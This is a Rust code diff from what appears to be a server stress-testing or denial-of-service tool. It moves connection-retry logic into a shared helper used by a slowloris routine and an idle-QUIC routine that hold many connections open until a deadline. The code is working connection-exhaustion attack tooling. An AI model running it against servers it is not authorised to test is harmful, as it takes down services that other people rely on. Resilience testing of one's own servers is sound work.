@@ -352,6 +352,34 @@ async fn run_attack(a: &AttackArgs, deadline: Instant, tally: Arc<Tally>) -> Res
     Ok(())
 }
 
+/// The next connection of one held open until the deadline: opened by
+/// `open` through `gate` (a ramp of handshakes, not a burst), a failure
+/// counted and tried again 200 ms later; `None` once the deadline passes.
+async fn reopen<C, F: Future<Output = Option<C>>>(
+    gate: &tokio::sync::Semaphore,
+    deadline: Instant,
+    tally: &Tally,
+    open: impl Fn() -> F,
+) -> Option<C> {
+    while Instant::now() < deadline {
+        let permit = gate.acquire().await;
+        let conn = tokio::time::timeout_at(deadline.into(), open()).await;
+        drop(permit);
+        match conn {
+            Ok(Some(c)) => {
+                tally.opened.fetch_add(1, Ordering::Relaxed);
+                return Some(c);
+            }
+            Ok(None) => {
+                tally.errors.fetch_add(1, Ordering::Relaxed);
+                tokio::time::sleep(Duration::from_millis(200)).await;
+            }
+            Err(_) => return None,
+        }
+    }
+    None
+}
+
 /// Holds `n` TLS connections open until the deadline, reopening those the
 /// server closes; with `head`, each sends that much of a request and then
 /// one header every 2 s (a slowloris), else nothing at all.
@@ -363,20 +391,8 @@ async fn hold_connections(t: Arc<Target>, n: usize, sources: usize, deadline: In
             let (t, tally, head, gate) = (t.clone(), tally.clone(), head.clone(), gate.clone());
             tokio::spawn(async move {
                 let from = source(i % sources);
-                while Instant::now() < deadline {
-                    let permit = gate.acquire().await;
-                    let conn = tokio::time::timeout_at(deadline.into(), t.tls(from)).await;
-                    drop(permit);
-                    let mut c = match conn {
-                        Ok(Ok(c)) => c,
-                        Ok(Err(_)) => {
-                            tally.errors.fetch_add(1, Ordering::Relaxed);
-                            tokio::time::sleep(Duration::from_millis(200)).await;
-                            continue;
-                        }
-                        Err(_) => return,
-                    };
-                    tally.opened.fetch_add(1, Ordering::Relaxed);
+                let t = &*t;
+                while let Some(mut c) = reopen(&gate, deadline, &tally, move || async move { t.tls(from).await.ok() }).await {
                     let closed = match &head {
                         None => until_closed(&mut c, deadline).await,
                         Some(h) => {
@@ -429,23 +445,10 @@ async fn idle_quic(t: Arc<Target>, n: usize, sources: usize, deadline: Instant, 
         .map(|i| {
             let (ep, tally, gate, addr) = (endpoints[i % endpoints.len()].clone(), tally.clone(), gate.clone(), t.addr);
             tokio::spawn(async move {
-                while Instant::now() < deadline {
-                    let permit = gate.acquire().await;
-                    let conn = match ep.connect(addr, "localhost") {
-                        Ok(c) => tokio::time::timeout_at(deadline.into(), c).await,
-                        Err(_) => Ok(Err(quinn::ConnectionError::LocallyClosed)),
-                    };
-                    drop(permit);
-                    let c = match conn {
-                        Ok(Ok(c)) => c,
-                        Ok(Err(_)) => {
-                            tally.errors.fetch_add(1, Ordering::Relaxed);
-                            tokio::time::sleep(Duration::from_millis(200)).await;
-                            continue;
-                        }
-                        Err(_) => return,
-                    };
-                    tally.opened.fetch_add(1, Ordering::Relaxed);
+                let ep = &ep;
+                while let Some(c) =
+                    reopen(&gate, deadline, &tally, move || async move { ep.connect(addr, "localhost").ok()?.await.ok() }).await
+                {
                     if tokio::time::timeout_at(deadline.into(), c.closed()).await.is_ok() {
                         tally.closed_by_server.fetch_add(1, Ordering::Relaxed);
                     }
